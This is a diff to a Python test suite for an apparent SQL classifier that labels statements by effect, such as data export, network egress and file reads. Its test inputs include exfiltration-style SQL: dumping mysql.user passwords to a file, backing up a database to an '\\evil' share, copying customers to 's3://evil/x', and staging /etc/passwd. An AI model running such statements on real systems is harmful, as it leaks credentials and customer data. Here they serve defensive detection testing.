@@ -194,14 +194,14 @@ CASES: list[tuple[str, str, set[str], dict]] = [
     (
         "mysql",
         "SELECT * FROM users INTO OUTFILE '/var/lib/mysql-files/u.txt'",
-        {"data.export", "file.write", "unknown"},
-        {"exports": ["/var/lib/mysql-files/u.txt"]},
+        {"data.export", "file.write", "data.read"},
+        {"exports": ["/var/lib/mysql-files/u.txt"], "tables_read": ["users"]},
     ),
     (
         "mysql",
         "SELECT password FROM mysql.user INTO DUMPFILE '/tmp/p'",
-        {"data.export", "file.write", "unknown"},
-        {},
+        {"data.export", "file.write"},
+        {"files_written": ["/tmp/p"]},
     ),
     (
         "mysql",
@@ -276,8 +276,18 @@ CASES: list[tuple[str, str, set[str], dict]] = [
         {"network.egress"},
         {},
     ),
-    ("tsql", "BULK INSERT t FROM 'c:\\data.csv'", {"file.read", "data.write", "unknown"}, {}),
-    ("tsql", "BACKUP DATABASE shop TO DISK = '\\\\evil\\x.bak'", {"data.export", "unknown"}, {}),
+    (
+        "tsql",
+        "BULK INSERT t FROM 'c:\\data.csv'",
+        {"file.read", "data.write"},
+        {"tables_written": ["t"], "files_read": ["c:\\data.csv"]},
+    ),
+    (
+        "tsql",
+        "BACKUP DATABASE shop TO DISK = '\\\\evil\\x.bak'",
+        {"data.export", "network.egress"},
+        {},
+    ),
     ("snowflake", "COPY INTO @ext_stage FROM customers", {"data.export", "network.egress"}, {}),
     ("snowflake", "COPY INTO 's3://evil/x' FROM customers", {"data.export", "network.egress"}, {}),
     ("snowflake", "PUT file:///etc/passwd @my_stage", {"file.read", "data.export"}, {}),
@@ -551,7 +561,7 @@ def test_unknown_dialect_is_unknown_not_an_exception():
 def test_registration_and_facts():
     classifier = get_classifier("sql")
     assert classifier.func is classify
-    assert classifier.options == {"dialect"}
+    assert classifier.options == {"dialect", "write_limit"}
     produced = classify_sql("DELETE FROM t").facts
     assert set(produced) <= FACTS
     assert set(classify_sql("SELECT FROM").facts) <= FACTS
